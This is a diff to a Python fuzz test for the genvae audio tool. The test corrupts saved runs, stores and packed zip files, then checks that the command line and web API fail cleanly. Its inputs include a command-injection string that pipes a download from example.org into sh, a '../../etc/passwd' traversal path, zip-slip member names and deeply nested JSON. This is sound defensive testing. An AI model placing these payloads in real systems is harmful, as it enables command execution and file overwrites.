@@ -1,10 +1,11 @@
-"""Opens runs and stores that somebody has changed: bytes, values of their JSON, headers of their tensors.
+"""Opens runs and stores that somebody has changed: bytes, values of their JSON, headers of their tensors, their zip.
 
     python tests/faults/hostile.py --count 5000
 
 Each case is made from its number alone: one file of a small run or store is changed, and what a user would do is done
-in processes of their own (generate, map, open and read, prepare again). It may work, or end in an error for people. It
-must not end in a traceback, hang, take memory beyond a bound, or write to other files. Exits with 1 if one does.
+in processes of their own (generate, map, list, plot, serve, open and read, prepare again). It may work, or end in an
+error for people. It must not end in a traceback, hang, take memory beyond a bound, or write to other files, and what is
+served must not answer with a 5xx. Exits with 1 if one does.
 """
 
 from __future__ import annotations
@@ -14,12 +15,15 @@ import os
 os.environ["OMP_NUM_THREADS"] = "1"
 
 import argparse
+import io
 import json
 import random
 import shutil
 import struct
 import sys
 import tempfile
+import warnings
+import zipfile
 from collections import Counter
 from collections.abc import Callable
 from pathlib import Path
@@ -33,10 +37,11 @@ import soundfile
 
 HANG = 60.0  # seconds
 MEMORY = 1 << 30  # bytes more than what a sound one takes
-NESTED = 100_000
+LOGGED = ("train", "validation")
+NESTED = (200, 600, 950, 100_000)
 
 VALUES: tuple[Any, ...] = (
-    *(None, True, -1, 0, 1, 2**31, 2**62, 2**63, 10**30, 1e38, float("inf"), float("nan"), -0.5),
+    *(None, True, -1, 0, 1, 2**31, 2**62, 2**63, 10**30, 10**400, 1e38, float("inf"), float("nan"), -0.5),
     *("", "x", "\n\x1b[31m", "../../etc/passwd", "x; curl example.org | sh", "é" * 300, "9" * 5000),
     *([], {}, [[]], [1, "a", None], {"a": 1}, ["a"] * 2000),
 )
@@ -65,8 +70,8 @@ def change_json(content: bytes, drawn: random.Random) -> bytes:
         holder[drawn.choice(("more", "__class__", ""))] = drawn.choice(VALUES)
     else:
         holder[key] = "NESTED"
-    text = json.dumps(tree)
-    return text.replace('"NESTED"', "[" * NESTED + "]" * NESTED).encode()
+    depth, (left, right) = drawn.choice(NESTED), drawn.choice(("[]", ('{"a":', "}")))
+    return json.dumps(tree).replace('"NESTED"', f"{left * depth}0{right * depth}").encode()
 
 
 def change_bytes(content: bytes, drawn: random.Random) -> bytes:
@@ -102,11 +107,46 @@ def change_tensors(content: bytes, drawn: random.Random) -> bytes:
     return struct.pack("<Q", len(header)) + header + bytes(data)
 
 
+def change_lines(content: bytes, drawn: random.Random) -> bytes:
+    """One of the JSON texts that stand in lines, changed."""
+    lines = content.splitlines()
+    place = drawn.randrange(len(lines))
+    lines[place] = drawn.choice((change_json, change_json, change_bytes))(lines[place], drawn)
+    return b"\n".join(lines) + b"\n"
+
+
+def change_members(content: bytes, drawn: random.Random) -> bytes:
+    """A zip whose members, their names or their form are others, with checksums that fit."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        members = [(name, archive.read(name)) for name in archive.namelist()]
+    place, kind = drawn.randrange(len(members)), drawn.choice(("content", "content", "name", "lost", "twice", "packed"))
+    name, held = members[place]
+    form = zipfile.ZIP_STORED
+    if kind == "content":
+        members[place] = name, drawn.choice(CHANGES[Path(name).suffix])(held, drawn)
+    elif kind == "name":
+        members[place] = drawn.choice(("../made/out", "/tmp/out", "a/b", "evil.py", "seal.json", "x" * 300)), held
+    elif kind == "lost":
+        del members[place]
+    elif kind == "twice":
+        members.append(members[place])
+    else:
+        form = drawn.choice((zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))
+    changed = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(changed, "w") as archive:
+        warnings.simplefilter("ignore")  # of a name that comes twice
+        for at, (name, held) in enumerate(members):
+            archive.writestr(zipfile.ZipInfo(name), held, form if at == place else zipfile.ZIP_STORED)
+    return changed.getvalue()
+
+
 CHANGES: dict[str, tuple[Callable[[bytes, random.Random], bytes], ...]] = {
     ".json": (change_json, change_json, change_bytes),
     ".safetensors": (change_tensors, change_bytes),
     ".npy": (change_bytes,),
     ".wav": (change_bytes,),
+    ".jsonl": (change_lines, change_lines, change_bytes),
+    ".genvae": (change_members, change_members, change_bytes),
 }
 
 
@@ -118,13 +158,19 @@ def uses(run: Path, store: Path, clip: Path, music: Path, name: str) -> list[tup
         ]
         if name.endswith(("latents.safetensors", "map.safetensors")):
             used = [("map", str(run)), ("plot", "latent", str(run), "-o", str(run.parent / "made.png"))]
-        return [*used, ("info", str(run)), ("verify", str(run))]
+        if name.endswith(".jsonl"):
+            used = [("plot", "training", str(run), "-o", str(run.parent / "made.png"))]
+        return [*used, ("info", str(run)), ("verify", str(run)), ("runs", str(run.parent))]
     if name.startswith("store/"):
         return [
             ("info", str(store)),
             ("verify", str(store)),
             ("prepare", str(music), "--out", str(store), "--sample-rate", "8000", "--clip-ms", "512", "--workers", "1"),
         ]
+    if name.startswith("packed"):
+        packed = run.parent / name
+        made = ("--genre", "rock", "--seed", "1", "-o", str(run.parent / "made" / "a.wav"))
+        return [("generate", "--run", str(packed), *made), ("info", str(packed)), ("runs", str(run.parent))]
     return [("info", str(clip)), ("regenerate", str(clip), "--run", str(run), "-o", str(run.parent / "again.wav"))]
 
 
@@ -143,13 +189,38 @@ def read_whole(store: Path) -> int:
     return 0
 
 
+def served(run: Path) -> int:
+    """Serve a run, and ask for what tells of it."""
+    from fastapi.testclient import TestClient
+
+    from genvae.errors import GenvaeError
+    from genvae.plugin.registry import installed
+    from genvae.verbs import open_run
+    from genvae.web.app import create_app
+    from genvae.web.engine import Engine
+
+    try:
+        app = create_app([Engine(open_run(run), installed())])
+    except GenvaeError as error:
+        sys.stderr.write(str(error))
+        return error.exit_code
+    bad = 0
+    with TestClient(app, base_url="http://localhost", raise_server_exceptions=False) as client:
+        for path in ("info", "about", "directions", "map/pca", "generate?genre=rock&seed=1"):
+            answer = client.get(f"/api/{path}")
+            if answer.status_code >= 500:
+                sys.stderr.write(f"{path}: {answer.status_code}\n")
+                bad = 1
+    return bad
+
+
 def case(number: int, kept: Path, work: Path) -> tuple[str, list[str]]:
     """The file that was changed and what went wrong, a line each."""
     drawn = random.Random(number)
     shutil.rmtree(work, ignore_errors=True)
     shutil.copytree(kept, work)
-    names = [n for n in forked.contents(work) if n.startswith(("run/", "store/", "clip")) and Path(n).suffix in CHANGES]
-    kind = drawn.choice(("run/", "store/", "clip"))
+    names = [n for n in forked.contents(work) if Path(n).suffix in CHANGES]
+    kind = drawn.choice(("run/", "run/", "store/", "packed", "clip"))
     of_kind = [n for n in names if n.startswith(kind)]
     described = [n for n in of_kind if n.endswith(("store.json", "pipeline.json"))]
     name = drawn.choice(described if described and drawn.random() < 0.4 else of_kind)
@@ -167,6 +238,8 @@ def case(number: int, kept: Path, work: Path) -> tuple[str, list[str]]:
     ]
     if kind == "store/":
         steps.insert(1, lambda: read_whole(work / "store"))
+    if kind == "run/":
+        steps.append(lambda: served(work / "run"))
     for place, step in enumerate(steps):
         ended = forked.run(step, seconds=HANG)
         if ended.code is None:
@@ -211,25 +284,32 @@ def music(root: Path) -> Path:
 
 
 def make(kept: Path) -> None:
-    """A small run with a map, a store with its recordings, and a clip."""
+    """A small run with all that one may hold, the same packed, a store with its recordings, and a clip."""
     import torch
-    from conftest import make_run
+    from conftest import ATTRIBUTES, make_run
 
     from genvae.latents.fit import make_map
+    from genvae.packing import pack
     from genvae.tensor_files import save_tensors
 
     torch.set_num_threads(1)
-    run = make_run(kept / "run")
+    run = make_run(kept / "run", attributes=ATTRIBUTES)
+    log = [{"kind": kind, "step": at, "seconds": 6.5 * at, "loss": 2 / at} for at in (1, 9) for kind in LOGGED]
+    run.metrics_path.write_text("".join(f"{json.dumps(line)}\n" for line in log), encoding="ascii")
+    members = {"statistics": {"frechet": {"value": 20.5}, "accuracy": {"value": 0.75}}}
+    rows = [{"name": name, "rank": 1.5, "members": members} for name in ("real, unseen recordings", "generated")]
+    (run.path / "evaluation.json").write_text(json.dumps({"rows": rows}), encoding="ascii")
     generator = torch.Generator().manual_seed(1)
     mean = torch.randn(60, 4, generator=generator)
     save_tensors(run.latents_path, {"mean": mean, "genre": torch.arange(60) % 3, "clip": torch.arange(60)})
     make_map(run, "pca")
     run.seal()
+    pack(run, kept / "packed.genvae")
     words = ("generate", "--run", str(run.path), "--genre", "rock", "--seed", "1", "-o", str(kept / "clip.wav"))
     assert forked.genvae(*words) == 0
     store = kept / "store"
     words = ("prepare", str(music(kept / "music")), "--out", str(store), "--sample-rate", "8000", "--clip-ms", "512")
-    assert forked.genvae(*words, "--workers", "1") == 0
+    assert forked.genvae(*words, "--attributes", "loudness,tempo", "--workers", "1") == 0
 
 
 def main() -> int:
